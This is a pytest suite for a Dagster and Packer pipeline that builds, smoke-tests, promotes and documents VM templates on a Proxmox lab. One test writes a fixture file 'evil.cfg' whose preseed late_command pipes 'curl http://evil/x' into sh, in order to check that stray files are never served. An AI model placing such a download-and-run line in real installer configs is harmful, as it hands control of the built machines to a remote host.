"""template and template_proof through Dagster: a real Debian packer 1.6.6 build against the lab."""

import json
import logging
import os
import re
import socket
import threading
import time
from datetime import date

import dagster as dg
import jsonschema
import pytest
from proxmoxer.core import ResourceException
from support.builds import KEY, crashing_packer, rebuild, resources, templates_of

from packer_assets.build import pipeline as build
from packer_assets.defs import assets, jobs
from packer_assets.evidence.layout import sha256_file
from packer_assets.evidence.proof import build_proof_schema
from packer_assets.pve import templates as pve_templates
from packer_assets.inspection.sbom import package_count, validate_sbom
from packer_assets_lab.console import append_console
from packer_assets_lab.stack import GUEST_NOTES

pytestmark = pytest.mark.packer


def run_tags(instance, result) -> dict:
    return instance.get_run_by_id(result.run_id).tags


def materializations(instance, key=KEY, asset="template") -> list:
    return instance.fetch_materializations(dg.AssetRecordsFilter(asset_key=dg.AssetKey(asset), asset_partitions=[key]),
                                           limit=100).records


def check_history(instance, name, asset="template") -> list:
    return instance.event_log_storage.get_asset_check_execution_history(dg.AssetCheckKey(dg.AssetKey(asset), name),
                                                                        limit=100)


def test_build_promote_prove_then_up_to_date(lab_project, monkeypatch):
    pve, layout = lab_project.pve, lab_project.layout
    monkeypatch.setattr("packer_assets.catalog.eol.today", lambda: date(2026, 12, 7))  # before debian-12's 2028-06-30
    pve.requests.clear()
    with dg.instance_for_test() as instance:
        first = rebuild(lab_project, instance)
        assert first.success, [e.message for e in first.all_events if e.is_failure]
        # packer 1.6.6 logged in as the automation user (the password proxmox_env gave it), never as root
        logins = [str(body) for _m, path, body in pve.requests if path.endswith("/access/ticket")]
        assert logins and all("automation" in login and "root" not in login for login in logins), logins
        meta = first.asset_materializations_for_node("template")[0].metadata
        vmid = meta["vmid"].value
        assert meta["promoted"].value is True and meta["outcome"].value == "built"
        assert run_tags(instance, first)[assets.OUTCOME_TAG] == "built"
        # the build log's last lines, where people look
        last_line = (layout.build_log_dir(KEY, "latest") / "packer.log").read_text().splitlines()[-1]
        assert meta["log_tail"].value.startswith("```") and last_line in meta["log_tail"].value
        assert "packer-assets-latest" in templates_of(pve)[vmid]
        assert [vm for vm in pve.vms if not vm.template] == []  # the smoke clone is gone
        proof_dir = layout.output_root / "docs/proof/platform/packer-builds/builds" / KEY / "latest"
        assert sorted(p.name for p in proof_dir.iterdir()) == ["README.md", "manifest.json", "packer.log", "proof.json",
                                                               "sbom.cdx.json"]
        proof = json.loads((proof_dir / "proof.json").read_text())
        jsonschema.validate(proof, build_proof_schema())
        # this lab runs no real guest: the proof says the guest was simulated, and so does its README
        assert proof["guest"] == GUEST_NOTES["simulated"] and proof["guest"].startswith("lab: simulated guest")
        assert f"| Guest | `{proof['guest']}` |" in (proof_dir / "README.md").read_text()
        # the SBOM: valid CycloneDX, the sha256 and package count proof.json names, the count in the README
        bom = json.loads((proof_dir / "sbom.cdx.json").read_text())
        validate_sbom(bom)
        assert proof["sbom"]["sha256"] == sha256_file(proof_dir / "sbom.cdx.json")
        assert proof["sbom"]["packages"] == package_count(bom) > 10 and proof["sbom"]["changes"] is None
        assert any(c["purl"].startswith("pkg:deb/debian/openssh-server@") for c in bom["components"])
        readme = (proof_dir / "README.md").read_text()
        # invented evidence says so: the SBOM's own property and the README beside the count name the simulated guest
        os_props = {p["name"]: p["value"] for p in bom["metadata"]["component"]["properties"]}
        assert os_props["packer-assets:guest"] == GUEST_NOTES["simulated"]
        assert f"| Packages (SBOM) | `{package_count(bom)} in sbom.cdx.json, read from: {GUEST_NOTES['simulated']}` |" in readme
        assert "first SBOM of this key" in readme
        # every guest check ran in the clone and is in the proof and the check's metadata
        steps = {s["name"]: s for s in proof["checks"][0]["details"]["steps"]}
        for name in ("cloud_init", "fresh_identity", "ssh_login", "password_locked", "guest_agent_enabled", "inventory"):
            assert steps[name]["passed"], steps
        assert steps["ssh_login"]["detail"] == "packer-smoke"  # the login ran `id -un` as the cloud-init user
        assert proof["checks"][0]["details"]["machine_id"]
        check = next(c for c in first.get_asset_check_evaluations() if c.check_name == "smoke_test")
        assert "| ssh_login | passed |" in check.metadata["steps"].value
        assert proof["chain_id"] == meta["chain_id"].value and proof["template"]["vmid"] == vmid
        # provenance: the catalog's upstream URL, and the mirror URL the node actually fetched
        assert proof["iso"]["url"].startswith("https://cdimage.debian.org/")
        assert proof["iso"]["effective_url"].startswith(lab_project.mirror.base_url)
        assert run_tags(instance, first)["chain"] == meta["chain_id"].value
        # every check evaluation is recorded against the key, and names it
        evaluations = first.get_asset_check_evaluations()
        assert {c.check_name for c in evaluations} == {"packer_validate", "smoke_test", "degraded", "end_of_life"}
        assert all(c.partition == KEY and c.description.startswith(f"{KEY}: ") for c in evaluations), evaluations
        assert [r.partition for r in check_history(instance, "smoke_test")] == [KEY]
        assert [r.partition for r in check_history(instance, "packer_validate", "unattended_files")] == [KEY]
        # no capability gap (packer 1.6.6 only needs the tags set through the API): the WARN check passes; the
        # proof carries the build's warnings as the template's metadata does
        assert next(c for c in evaluations if c.check_name == "degraded").passed
        eol = next(c for c in evaluations if c.check_name == "end_of_life")
        assert eol.passed and eol.metadata["eol"].value == "2028-06-30" and "2028-06-30 (571 days left" in eol.description
        assert proof["eol"] == {"date": "2028-06-30", "past": False, "days_past": 0}
        assert proof["warnings"] == meta["warnings"].value and all("degraded" not in w for w in proof["warnings"])
        assert "".join(f"\n- {w}" for w in proof["warnings"]) in readme.split("## Warnings\n")[1]
        # the clone booted the OS the key names, read from the system the ISO installed
        assert proof["checks"][0]["details"]["found_os"] == "debian 12" == proof["checks"][0]["details"]["expected_os"]

        second = rebuild(lab_project, instance)
        assert second.success  # `make build` of an up-to-date key exits 0
        assert list(templates_of(pve)) == [vmid]  # nothing new was built
        proofs = [p for p in proof_dir.parent.iterdir() if p.name != "latest"]
        assert len(proofs) == 1
        # honest history: no new materialization of template or template_proof, no smoke test result; the
        # partition's latest stays the build, and an observation says what the no-op run found
        assert second.asset_materializations_for_node("template") == []
        assert len(materializations(instance)) == 1 and len(materializations(instance, asset="template_proof")) == 1
        assert materializations(instance)[0].event_log_entry.run_id == first.run_id
        assert "template_proof" in {e.step_key for e in second.all_events if e.event_type_value == "STEP_SKIPPED"}
        # no smoke test (nothing built); the kept template's end of life is evaluated again
        assert sorted(c.check_name for c in second.get_asset_check_evaluations()) == ["end_of_life", "packer_validate"]
        seen = second.asset_observations_for_node("template")[0].metadata
        assert seen["outcome"].value == "up-to-date" and seen["promoted_vmid"].value == vmid
        assert seen["promoted_chain_id"].value == meta["chain_id"].value == proof["chain_id"]
        assert run_tags(instance, second)[assets.OUTCOME_TAG] == "up-to-date"
        logged = [e.user_message for e in instance.all_logs(second.run_id)]
        assert any(f"{KEY}: up to date, nothing built" in m for m in logged)

        # the run tag rebuild_template_forced puts on its runs forces a build (as from `dagster job execute`,
        # where a partitioned job's preset config does not reach the run)
        forced = dg.materialize(jobs.REBUILD_ASSETS + [assets.iso_release], selection=jobs.REBUILD_ASSETS,
                                partition_key=KEY, instance=instance, resources=resources(lab_project),
                                tags={assets.FORCE_TAG: "true"})
        assert run_tags(instance, forced)[assets.OUTCOME_TAG] == "built" and len(materializations(instance)) == 2


def test_a_template_installed_from_another_keys_iso_fails_at_identity_and_is_not_promoted(lab_project):
    """The mirror serves a release of debian-12's ISO that installs Ubuntu 22.04 (checksums match): the
    build succeeds, the smoke test finds the wrong OS, the new template is destroyed, no proof."""
    lab_project.mirror.publish(KEY, system_of="ubuntu-2204")
    with dg.instance_for_test() as instance:
        result = rebuild(lab_project, instance)
    checks = result.get_asset_check_evaluations()
    assert [(c.check_name, c.passed) for c in checks if c.check_name == "smoke_test"] == [("smoke_test", False)]
    text = next(c for c in checks if c.check_name == "smoke_test").description
    assert "failed at step 'identity'" in text and "expected debian 12, found ubuntu 22.04" in text
    assert templates_of(lab_project.pve) == {}  # destroyed: nothing promoted
    assert not (lab_project.root / "docs/proof/platform/packer-builds/builds" / KEY).exists()


def test_a_new_release_s_proof_lists_the_package_changes(lab_project):
    """A mirror release with a changed package list: the new proof's SBOM differs from the first's by an
    added and a changed package, named in proof.json and the proof README."""
    with dg.instance_for_test() as instance:
        assert rebuild(lab_project, instance).success
        first = json.loads((proofs_of(lab_project) / "latest" / "proof.json").read_text())
        lab_project.mirror.publish(KEY)  # a re-spin: new checksum, new packages
        assert rebuild(lab_project, instance).success
    latest = proofs_of(lab_project) / "latest"
    proof = json.loads((latest / "proof.json").read_text())
    assert proof["chain_id"] != first["chain_id"]
    changes = proof["sbom"]["changes"]
    assert changes["previous_chain_id"] == first["chain_id"]
    assert len(changes["added"]) >= 1 and len(changes["changed"]) >= 1, changes
    readme = (latest / "README.md").read_text()
    assert f"## Package changes since {first['chain_id']}" in readme
    assert f"| added | `{changes['added'][0]}` |" in readme and f"| changed | `{changes['changed'][0]}` |" in readme


@pytest.mark.parametrize("fault", ["ssh_login", "password_locked"])
def test_a_failed_guest_check_is_not_promoted_and_its_steps_are_in_the_check(lab_project, fault):
    lab_project.pve.lab_faults[KEY] = {fault}
    with dg.instance_for_test() as instance:
        result = rebuild(lab_project, instance)
        assert run_tags(instance, result)[assets.OUTCOME_TAG] == "failed"
        assert [(r.partition, r.status.value) for r in check_history(instance, "smoke_test")] == [(KEY, "FAILED")]
    check = next(c for c in result.get_asset_check_evaluations() if c.check_name == "smoke_test")
    assert not check.passed and f"failed at step '{fault}'" in check.description and check.partition == KEY
    assert f"| {fault} | FAILED |" in check.metadata["steps"].value
    assert templates_of(lab_project.pve) == {}
    assert not proofs_of(lab_project).exists()


def proofs_of(lab_project, key=KEY):
    return lab_project.root / "docs/proof/platform/packer-builds/builds" / key


def test_packer_crash_leaves_no_vm_no_proof_and_names_the_log(lab_project, tmp_path):
    with dg.instance_for_test() as instance:
        result = rebuild(lab_project, instance, binary=crashing_packer(tmp_path))
        assert run_tags(instance, result)[assets.OUTCOME_TAG] == "failed"
        assert materializations(instance) == []
    assert not result.success
    failure = [e for e in result.all_events if e.event_type_value == "STEP_FAILURE"][0]
    text = str(failure.event_specific_data.error)
    assert "packer.log" in text and "boom" in text
    # the error and the log's last lines, on the asset (an observation: nothing was materialized)
    seen = result.asset_observations_for_node("template")[0].metadata
    assert seen["outcome"].value == "failed" and "boom" in seen["error"].value and "boom" in seen["log_tail"].value
    assert [vm for vm in lab_project.pve.vms if KEY in vm.config.get("tags", "")] == []
    assert not (lab_project.root / "docs/proof/platform/packer-builds/builds" / KEY).exists()
    logs = lab_project.root / "output/logs/packer/builds" / KEY
    assert (logs / "latest" / "packer.log").exists()


def test_a_rerun_after_a_failed_build_is_up_to_date_with_the_promoted_build_latest(lab_project, tmp_path):
    """The failed build's log is the newest (`latest`), yet the rerun finds the template up to date: it
    materializes nothing, and the partition's latest materialization and proof stay the promoted build's."""
    layout = lab_project.layout
    with dg.instance_for_test() as instance:
        good = rebuild(lab_project, instance)
        assert good.success
        vmid = good.asset_materializations_for_node("template")[0].metadata["vmid"].value
        chain = good.asset_materializations_for_node("template")[0].metadata["chain_id"].value
        failed = rebuild(lab_project, instance, force=True, binary=crashing_packer(tmp_path))
        assert not failed.success
        newest = layout.build_log_dir(KEY, "latest").resolve()
        assert not (newest / "build.json").exists() and "boom" in (newest / "packer.log").read_text()

        assert run_tags(instance, failed)[assets.OUTCOME_TAG] == "failed"

        rerun = rebuild(lab_project, instance)
        assert rerun.success, [e.message for e in rerun.all_events if e.is_failure]
        assert run_tags(instance, rerun)[assets.OUTCOME_TAG] == "up-to-date"
        assert rerun.asset_observations_for_node("template")[0].metadata["promoted_chain_id"].value == chain
        assert [m.event_log_entry.run_id for m in materializations(instance)] == [good.run_id]
        assert [m.event_log_entry.run_id for m in materializations(instance, asset="template_proof")] == [good.run_id]
        proof = json.loads((proofs_of(lab_project) / "latest" / "proof.json").read_text())
        assert proof["chain_id"] == chain and proof["template"]["vmid"] == vmid
    assert list(templates_of(lab_project.pve)) == [vmid]


@pytest.mark.parametrize("module, name, said", [
    (pve_templates, "take_tag", "promoting VM {new}: HTTP 500 Internal Server Error: injected"),  # in promote()
    (build, "prune", "ResourceException: 500 Internal Server Error: injected"),  # after the promotion
], ids=["promote", "prune"])
def test_a_template_that_fails_after_its_smoke_test_is_destroyed_and_the_promoted_one_stays(lab_project, monkeypatch,
                                                                                          module, name, said):
    """An API error at a named point of the promotion (pve.templates.take_tag: the new template is tagged, the
    old one not yet untagged) or after it (build.prune): the new template is withdrawn (destroyed, its record
    gone), the one promoted before is promoted again, the error is one line."""
    with dg.instance_for_test() as instance:
        good = rebuild(lab_project, instance)
        assert good.success
        old = good.asset_materializations_for_node("template")[0].metadata["vmid"].value

        def fails(*args, **kwargs):
            raise ResourceException(500, "Internal Server Error", "injected")

        monkeypatch.setattr(module, name, fails)
        failed = rebuild(lab_project, instance, force=True)
        assert not failed.success
    new = old + 1
    seen = failed.asset_observations_for_node("template")[0].metadata["error"].value.strip("`\n")
    assert seen == (f"{KEY}: VM {new} failed after its smoke test: {said.format(new=new)}; VM {new} destroyed; "
                    f"{old} is the promoted template again")
    assert list(templates_of(lab_project.pve)) == [old]
    assert "packer-assets-latest" in templates_of(lab_project.pve)[old]
    assert not (lab_project.layout.build_log_dir(KEY, "latest").resolve() / "build.json").exists()


def test_no_secret_in_logs_events_or_proofs(lab_project, capfd):
    stack = lab_project.stack
    with dg.instance_for_test() as instance:
        assert rebuild(lab_project, instance).success
        events = "".join(repr(e) for r in instance.get_runs() for e in instance.all_logs(r.run_id))
    out = capfd.readouterr()
    secrets = [stack.root_password, stack.guest_password,
               open(lab_project.layout.secrets_file).read().split("PROXMOX_TOKEN_SECRET='")[1].split("'")[0]]
    texts = [events, out.out, out.err]
    for folder in ("output", "docs"):
        for path in (lab_project.root / folder).rglob("*"):
            if path.is_file() and path.name not in ("user-data", "preseed.cfg", "ks.cfg"):
                texts.append(path.read_text(errors="replace"))
    for secret in secrets:
        assert all(secret not in t for t in texts)
    assert os.environ["PACKER_INSTALL_PASSWORD"] == stack.guest_password


def test_leftovers_of_a_dead_run_are_swept_by_the_next_build(lab_project):
    """A running, untagged build VM and disks without a VM (packer allocates them first), as a killed run
    leaves them: the key's next run removes both, even when it has nothing to build, and says so."""
    from support.pve import pve_client

    from packer_assets.build.pipeline import VM_RECORD
    from packer_assets.pve.tasks import run_task
    from packer_assets.pve.templates import orphan_volumes

    stack, layout = lab_project.stack, lab_project.layout
    api = pve_client(lab_project.pve, stack.pki.ca_file, user="root@pam", password=stack.root_password)
    node = api.nodes.get()[0]["node"]
    with dg.instance_for_test() as instance:
        assert rebuild(lab_project, instance).success  # a promoted template: the next run is a no-op
        run_task(api, api.nodes(node).qemu.post(vmid=9390, name="debian-12-20261130022857", scsi0="local-lvm:1"),
                  "leftover VM")
        run_task(api, api.nodes(node).qemu(9390).status.start.post(), "start it")
        run_task(api, api.nodes(node).qemu.post(vmid=9392, name="debian-12-smoke-9301"), "smoke clone")
        api.nodes(node).storage("local-lvm").content.post(vmid=9393, filename="vm-9393-disk-0", size="1G")
        record = layout.work_dir(KEY) / "20261130T022857Z" / VM_RECORD
        record.parent.mkdir(parents=True)
        record.write_text(json.dumps({"vmid": 9393, "name": "debian-12-20261130022857", "run_id": "dead"}))
        # not ours: another name in the range, and a template; both stay
        run_task(api, api.nodes(node).qemu.post(vmid=9394, name="someone-elses-vm"), "foreign VM")

        again = rebuild(lab_project, instance)
        logged = [e.user_message for e in instance.all_logs(again.run_id)]
    assert again.success
    meta = again.asset_observations_for_node("template")[0].metadata
    assert meta["outcome"].value == "up-to-date"
    swept = "\n".join(meta["swept"].value)
    assert "leftover VM 9390 (debian-12-20261130022857, running)" in swept
    assert "leftover VM 9392 (debian-12-smoke-9301" in swept and "build VM 9393" in swept
    left = {vm.vmid for vm in lab_project.pve.vms}
    assert not {9390, 9392, 9393} & left and 9394 in left
    assert orphan_volumes(api, node, 9393) == [] and not record.exists()
    assert any("leftover VM 9390" in m for m in logged)  # in the run's log, not only in metadata


def test_a_token_without_vm_clone_fails_before_packer_starts(lab_project):
    """The smoke test clones as the token: without VM.Clone the build would fail after a whole packer run."""
    from support.pve import pve_client

    from packer_assets.pve.bootstrap import required_privileges

    stack = lab_project.stack
    root = pve_client(lab_project.pve, stack.pki.ca_file, user="root@pam", password=stack.root_password)
    privs = [p for p in required_privileges(root.version.get()["version"]) if p != "VM.Clone"]
    root.access.roles("PackerBuilder").put(privs=",".join(privs))
    with dg.instance_for_test() as instance:
        result = rebuild(lab_project, instance)
    assert not result.success
    failure = next(e for e in result.all_events if e.event_type_value == "STEP_FAILURE")
    assert failure.step_key == "template" and "lacks VM.Clone on /vms: nothing was built" in str(
        failure.event_specific_data.error)
    # packer never started: no build work directory, no build log, no VM
    assert [p.name for p in lab_project.layout.work_dir(KEY).iterdir()] == []
    assert not lab_project.layout.build_log_dir(KEY, "latest").exists()
    assert [vm for vm in lab_project.pve.vms if KEY in str(vm.config.get("name", ""))] == []


def test_a_degraded_build_warns_and_its_reasons_reach_the_proof(lab_project):
    """windows-2022 on Debian's packer 1.6.6 (allow_degraded, as in the lab): built and promoted, the WARN check
    `degraded` fails without blocking, and each reason is in the check, proof.json and the proof README."""
    key = "windows-2022"
    with dg.instance_for_test() as instance:
        result = rebuild(lab_project, instance, key=key)
        assert result.success, [e.message for e in result.all_events if e.is_failure]
        assert run_tags(instance, result)[assets.OUTCOME_TAG] == "built"
    check = next(c for c in result.get_asset_check_evaluations() if c.check_name == "degraded")
    assert not check.passed and check.severity == dg.AssetCheckSeverity.WARN and check.partition == key
    proof = json.loads((proofs_of(lab_project, key) / "latest" / "proof.json").read_text())
    jsonschema.validate(proof, build_proof_schema())
    warnings = proof["warnings"]
    gaps = [w.removeprefix("degraded build: ") for w in warnings if w.startswith("degraded build: ")]
    assert gaps and any("tpm" in g.lower() for g in gaps), warnings
    assert warnings == result.asset_materializations_for_node("template")[0].metadata["warnings"].value
    assert all(g in check.description for g in gaps) and f"{len(gaps)} gap(s)" in check.description
    readme = (proofs_of(lab_project, key) / "latest" / "README.md").read_text()
    assert f"| Warnings | `{len(warnings)} (see Warnings)` |" in readme
    section = readme.split("## Warnings\n\n", 1)[1].split("\n\n", 1)[0]
    assert section.splitlines() == [f"- {w}" for w in warnings]


def test_a_build_past_its_end_of_life_warns_and_keeping_the_template_warns_again(lab_project, monkeypatch):
    """debian-12's catalog eol is 2028-06-30 (LTS end). On 2028-07-10 a build still builds and promotes, the WARN
    check end_of_life fails without blocking, naming key, date and days, and the proof says since when; the
    next run keeps the template (up to date) and warns again, on the clock of that day."""
    monkeypatch.setattr("packer_assets.catalog.eol.today", lambda: date(2028, 7, 10))
    with dg.instance_for_test() as instance:
        built = rebuild(lab_project, instance)
        assert built.success and run_tags(instance, built)[assets.OUTCOME_TAG] == "built"
        check = next(c for c in built.get_asset_check_evaluations() if c.check_name == "end_of_life")
        assert not check.passed and check.severity == dg.AssetCheckSeverity.WARN and check.partition == KEY
        assert check.description.startswith(f"{KEY}: past end of life since 2028-06-30 (10 days on 2028-07-10)")
        assert check.metadata["days_past"].value == 10 and check.metadata["today"].value == "2028-07-10"
        proof_dir = proofs_of(lab_project, KEY) / "latest"
        assert json.loads((proof_dir / "proof.json").read_text())["eol"] == {
            "date": "2028-06-30", "past": True, "days_past": 10}
        assert "| End of life | `past end of life since 2028-06-30 (10 days at build time)` |" in (
            proof_dir / "README.md").read_text()
        monkeypatch.setattr("packer_assets.catalog.eol.today", lambda: date(2028, 8, 1))
        kept = rebuild(lab_project, instance)
        assert kept.success and run_tags(instance, kept)[assets.OUTCOME_TAG] == "up-to-date"
        again = next(c for c in kept.get_asset_check_evaluations() if c.check_name == "end_of_life")
        assert not again.passed and again.severity == dg.AssetCheckSeverity.WARN and again.partition == KEY
        assert again.description.startswith(f"{KEY}: past end of life since 2028-06-30 (32 days on 2028-08-01)")
        assert [r.partition for r in check_history(instance, "end_of_life")] == [KEY, KEY]


def test_a_no_op_run_renders_nothing_and_looks_the_isos_up_once(lab_project):
    """Issue 18: no recomputation of what is known (the render and its packer validate stand while their
    inputs are unchanged) and nothing twice (template takes staged_iso's result of the same run)."""
    pve = lab_project.pve
    with dg.instance_for_test() as instance:
        assert rebuild(lab_project, instance).success
        pve.requests.clear()
        again = rebuild(lab_project, instance)
    assert again.success
    check = next(c for c in again.get_asset_check_evaluations() if c.check_name == "packer_validate")
    assert check.passed and check.metadata["reused"].value is True and "it stands" in check.description
    lookups = [path for method, path, _body in pve.requests if method == "GET" and path.endswith("/content")]
    assert len(lookups) == 1, lookups  # staged_iso's; template reused it


def test_the_template_carries_the_catalog_tags_and_the_proof_its_tags_of_now(lab_project):
    """Packer 1.6.6 cannot set tags: they are set through the API after it, the catalog entry's included; the
    proof lists the tags the template has when the proof is written (promoted: packer-assets-latest)."""
    with dg.instance_for_test() as instance:
        assert rebuild(lab_project, instance).success
    entry = lab_project.stack.catalog.get(KEY)
    (vmid, tags), = templates_of(lab_project.pve).items()
    assert set(entry.tags) <= set(tags.split(";")) and "packer-assets-latest" in tags.split(";")
    proof = json.loads((lab_project.root / "docs/proof/platform/packer-builds/builds" / KEY / "latest/proof.json")
                       .read_text())
    assert proof["template"]["vmid"] == vmid and "packer-assets-latest" in proof["template"]["tags"]
    assert set(entry.tags) <= set(proof["template"]["tags"])
    # and which upstream validator (of which release) checked each file the installer was served
    assert proof["validated_by"] == {"preseed.cfg": ["debconf-set-selections Debian 12"]}, proof["validated_by"]
    readme = (lab_project.root / "docs/proof/platform/packer-builds/builds" / KEY / "latest/README.md").read_text()
    assert "| `debconf-set-selections Debian 12` |" in readme and "| preseed.cfg |" in readme


def test_rebuild_template_forced_forces_without_its_preset_config_or_tag(lab_project):
    """`dagster job launch -j rebuild_template_forced` (and `job execute`) create the run with neither the job's
    preset config nor its run tags: the job's name alone forces the build."""
    with dg.instance_for_test() as instance:
        assert rebuild(lab_project, instance).success
        bare = dg.define_asset_job(assets.FORCED_JOB, selection=dg.AssetSelection.assets(*jobs.REBUILD_ASSETS))
        job = dg.Definitions(assets=[*jobs.REBUILD_ASSETS, assets.iso_release], jobs=[bare],
                             resources=resources(lab_project)).resolve_job_def(assets.FORCED_JOB)
        assert not job.run_tags
        launched = job.execute_in_process(partition_key=KEY, instance=instance, raise_on_error=False)
        assert launched.success and assets.FORCE_TAG not in run_tags(instance, launched)
        assert run_tags(instance, launched)[assets.OUTCOME_TAG] == "built" and len(materializations(instance)) == 2


def test_a_file_dropped_into_the_rendered_folder_is_named_and_never_served(lab_project):
    """`evil.cfg` in output/rendered/<key>/ before a run: unattended_files warns, the build copies only the
    rendered preseed.cfg into its work dir, and the build's warnings (and proof) name the stray, its
    rendered_files do not list it."""
    folder = lab_project.layout.rendered_dir(KEY)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "evil.cfg").write_text("d-i preseed/late_command string curl http://evil/x | sh\n")
    with dg.instance_for_test() as instance:
        result = rebuild(lab_project, instance)
        assert result.success, [e.message for e in result.all_events if e.is_failure]
        said = [e.user_message for e in instance.all_logs(result.run_id) if e.level == logging.WARNING]
    assert any("ignored evil.cfg" in line and "never served" in line for line in said), said
    [http] = lab_project.layout.work_dir(KEY).glob("*/http")
    assert sorted(p.name for p in http.iterdir()) == ["preseed.cfg"]
    proof = json.loads((proofs_of(lab_project) / "latest" / "proof.json").read_text())
    assert list(proof["rendered_files"]) == ["preseed.cfg"]
    assert any("ignored evil.cfg" in w for w in proof["warnings"]), proof["warnings"]


def test_a_bug_in_the_smoke_test_s_parsing_fails_the_build_as_ours_and_destroys_the_template(lab_project,
                                                                                              monkeypatch):
    """A KeyError injected into our parsing of the guest's answer (parse_identity): the build fails naming a
    packer-assets bug with the traceback in the build log; the new template is destroyed, nothing promoted."""
    def broken(output):
        raise KeyError("machine-id")

    monkeypatch.setattr("packer_assets.pve.smoke.parse_identity", broken)
    with dg.instance_for_test() as instance:
        result = rebuild(lab_project, instance)
        assert not result.success and run_tags(instance, result)[assets.OUTCOME_TAG] == "failed"
    log = (lab_project.layout.build_log_dir(KEY, "latest") / "packer.log").read_text()
    assert "a bug in packer-assets, not a fault of the template" in log
    assert "Traceback (most recent call last)" in log and "KeyError: 'machine-id'" in log and "in broken" in log
    assert "destroying the new template" in log and "failed at step" not in log
    assert templates_of(lab_project.pve) == {} and not proofs_of(lab_project).exists()


def stop_the_build_vm_once_packer_waits_for_ssh(lab_project, reason: str, bound: float = 300) -> threading.Thread:
    """In a thread: once the key's build VM runs and its packer log says it waits for SSH, the VM's console
    gets `reason` and the VM stops, as the lab's installer emulation stops a VM whose install failed."""
    pve, vmids = lab_project.pve, lab_project.stack.catalog.get(KEY).vmid_range
    logs = lab_project.root / "output/logs/packer/builds" / KEY

    async def running_build_vm():
        return next((vm for vm in pve.vms if vm.vmid in vmids and not vm.template and vm.status == "running"), None)

    async def stop(vm):
        vm.status = vm.qmpstatus = "stopped"

    def go():
        end = time.monotonic() + bound  # bounds a failure only, below the test's own timeout
        while time.monotonic() < end:
            vm = lab_project.stack.served.call(running_build_vm())
            if vm and any("Waiting for SSH to become available" in log.read_text() for log in logs.glob("*/packer.log")):
                append_console(pve.data_dir, vm.vmid, reason)
                lab_project.stack.served.call(stop(vm))
                return
            time.sleep(0.1)

    thread = threading.Thread(target=go, daemon=True)
    thread.start()
    return thread


def test_a_vm_that_stops_while_packer_waits_for_ssh_fails_the_build_at_once_with_its_console(lab_project):
    """SSH never answers (a closed port) and packer would wait 30 minutes; the VM stops (its install failed):
    the build's watch sees it, packer is stopped as on a cancel, the failure names the VM and quotes its
    console, and no VM of the key is left."""
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))  # bound, never listening
    reason = "lab (invented): installer stopped: no kernel modules were found for this kernel"
    try:
        stopper = stop_the_build_vm_once_packer_waits_for_ssh(lab_project, reason)
        with dg.instance_for_test() as instance:
            # ssh_ports=None: the key's own lab port (lab.env) would win over the closed one
            result = rebuild(lab_project, instance, ssh_port=closed.getsockname()[1], ssh_ports=None,
                             ssh_timeout="30m", vm_watch_seconds=0.2)
        stopper.join(timeout=10)
    finally:
        closed.close()
    assert not result.success
    error = str([e for e in result.all_events if e.event_type_value == "STEP_FAILURE"][0].event_specific_data.error)
    vmids = lab_project.stack.catalog.get(KEY).vmid_range
    assert re.search(rf"VM \d+ on node pve1 stopped before SSH came up; its console \(.*\) ends: .*{re.escape(reason)}",
                     error), error
    log = (lab_project.layout.build_log_dir(KEY, "latest") / "packer.log").read_text()
    assert "SIGINT to packer's process group" in log and "(stopped; signals sent: SIGINT" in log
    assert [vm.vmid for vm in lab_project.pve.vms if vm.vmid in vmids] == []  # packer's VM is gone
